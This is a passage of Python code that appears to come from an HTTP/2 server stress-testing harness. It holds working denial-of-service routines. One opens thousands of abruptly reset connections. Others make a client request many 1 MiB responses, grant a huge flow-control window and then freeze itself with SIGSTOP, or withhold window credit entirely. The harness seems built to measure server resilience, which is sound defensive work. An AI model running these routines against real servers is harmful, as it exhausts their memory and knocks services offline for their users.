    count = size(10_000, 600)
    linger = struct.pack("ii", 1, 0)
    for i in range(count):
        with socket.create_connection(target.address) as sock:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
            if i % 3:
                sock.sendall(http2.PREFACE + http2.settings() if i % 3 == 1 else http2.PREFACE[:7])
    return f"{count} connections"


def in_a_stopped_process(target, begin):
    """Forks a client that calls `begin(connection)` and stops itself, and lets others call meanwhile."""
    child = os.fork()
    if child == 0:
        connection = None
        try:
            connection = Connection(target.address, polite=False, receive_buffer=4096)
            begin(connection)
            os.kill(os.getpid(), signal.SIGSTOP)
        finally:
            os._exit(1 if connection is None else 0)
    try:
        _, status = os.waitpid(child, os.WUNTRACED)
        if not os.WIFSTOPPED(status):
            raise Failed("the client could not begin")
        target.let_others_call(50)
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)


@attack(peak_mib=192, full_peak_mib=1200, server="probe")
def stopped_client(target, size):
    """SIGSTOP with large answers under way, and the window open for all of them."""
    streams, answer_bytes = size(400, 50), MIB

    def begin(connection):
        connection.send(http2.settings((http2.SETTINGS_INITIAL_WINDOW_SIZE, 0x7FFFFFFF)))
        connection.send(http2.window_update(0, 0x7FFF0000 - 65535))
        for _ in range(streams):
            connection.start(target.path, message(target.ask_for(answer_bytes)))

    in_a_stopped_process(target, begin)
    return f"{streams} answers of 1 MiB"


@attack(peak_mib=192, full_peak_mib=1200, server="probe")
def answers_without_a_window(target, size):
    """Large answers to a peer that gives no credit for them."""
    streams, answer_bytes = size(400, 50), MIB
    with Connection(target.address, (http2.SETTINGS_INITIAL_WINDOW_SIZE, 0)) as connection:
        limit = min(streams, stream_limit(connection))
        for _ in range(limit):
            connection.start(target.path, message(target.ask_for(answer_bytes)))
        target.let_others_call(30)
    return f"{limit} answers of 1 MiB"
